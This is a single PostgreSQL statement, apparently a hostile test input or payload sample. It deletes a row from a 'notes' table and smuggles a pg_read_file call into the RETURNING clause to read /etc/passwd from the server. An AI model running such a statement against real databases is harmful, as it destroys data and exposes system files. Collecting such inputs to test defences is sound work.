DELETE FROM notes WHERE id = 1 RETURNING pg_read_file('/etc/passwd')
